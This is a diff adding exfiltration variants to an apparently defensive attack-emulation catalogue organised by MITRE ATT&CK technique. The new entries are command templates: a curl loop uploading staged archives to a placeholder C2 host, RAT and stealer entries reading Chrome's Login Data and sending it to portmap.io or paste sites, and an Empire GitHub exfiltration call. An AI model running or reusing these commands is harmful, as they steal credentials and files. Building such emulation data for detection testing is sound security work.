@@ -27,6 +27,25 @@ export const exfiltration = [
       ],
       { shell: "ps" },
     ),
+    // A batch loop handing every staged archive to curl, one upload per file.
+    v("curl-for-loop", [
+      {
+        cmd: 'cmd.exe /c for %f in (C:\\ProgramData\\{{rand}}\\*.7z.*) do curl.exe -s -F "file=@%f" https://{{c2}}/upload',
+        as: "loop",
+      },
+      {
+        cmd: 'curl.exe -s -F "file=@C:\\ProgramData\\{{rand}}\\{{rand}}.7z.001" https://{{c2}}/upload',
+        parent: "loop",
+        reads: ["C:\\ProgramData\\{{rand}}\\{{rand}}.7z.001"],
+        net: [["{{c2}}", 443]],
+      },
+      {
+        cmd: 'curl.exe -s -F "file=@C:\\ProgramData\\{{rand}}\\{{rand}}.7z.002" https://{{c2}}/upload',
+        parent: "loop",
+        reads: ["C:\\ProgramData\\{{rand}}\\{{rand}}.7z.002"],
+        net: [["{{c2}}", 443]],
+      },
+    ]),
   ]),
   t("T1029", "Scheduled transfer", "A task that uploads data at night.", [
     v("schtasks-upload", [
@@ -46,6 +65,23 @@ export const exfiltration = [
           cmd: "{{appdata}}\\{{name}}.exe",
           reads: ["C:\\ProgramData\\{{rand}}.zip"],
           net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
+    // Commodity RATs (AsyncRAT, njRAT) often reach a home-run C2 through a portmap.io forwarding hostname;
+    // stolen browser data and documents go back over that same socket.
+    v(
+      "rat-portmap",
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          reads: [
+            "{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data",
+            "{{home}}\\Documents\\{{rand}}.xlsx",
+          ],
+          net: [["{{rand}}-{{n}}.portmap.io", 47813]],
+          keep: true,
         },
       ],
       { shell: "none" },
@@ -126,6 +162,17 @@ export const exfiltration = [
         net: [["github.com", 443]],
       },
     ]),
+    // Empire's GitHub exfiltration module: files pushed through the contents API with a personal access token.
+    v(
+      "empire-github",
+      [
+        {
+          ps: 'Invoke-ExfilDataToGitHub -GHUser {{rand}} -GHRepo backup -GHPAT "Z2hwX{{rand2}}{{rand2}}{{rand}}" -GHFilePath "d/" -LocalFilePath "C:\\ProgramData\\{{rand}}\\" -Filter "*.zip"',
+          net: [["api.github.com", 443]],
+        },
+      ],
+      { shell: "ps" },
+    ),
   ]),
   t("T1567.002", "Exfiltration to cloud storage", "Rclone to MEGA/Dropbox, MEGAsync, or curl to S3.", [
     v("rclone-mega", [
@@ -146,6 +193,18 @@ export const exfiltration = [
     v("megasync", [{ cmd: "{{local}}\\MEGAsync\\MEGAsync.exe", net: [["g.api.mega.co.nz", 443]] }]),
   ]),
   t("T1567.003", "Exfiltration to text storage sites", "Data posted to Pastebin-like sites.", [
+    // Stealers post their harvest to a paste site's API straight from the implant process.
+    v(
+      "stealer-paste",
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data"],
+          net: [["{{pastebin.com|paste.ee|hastebin.com}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
     v(
       "pastebin",
       [
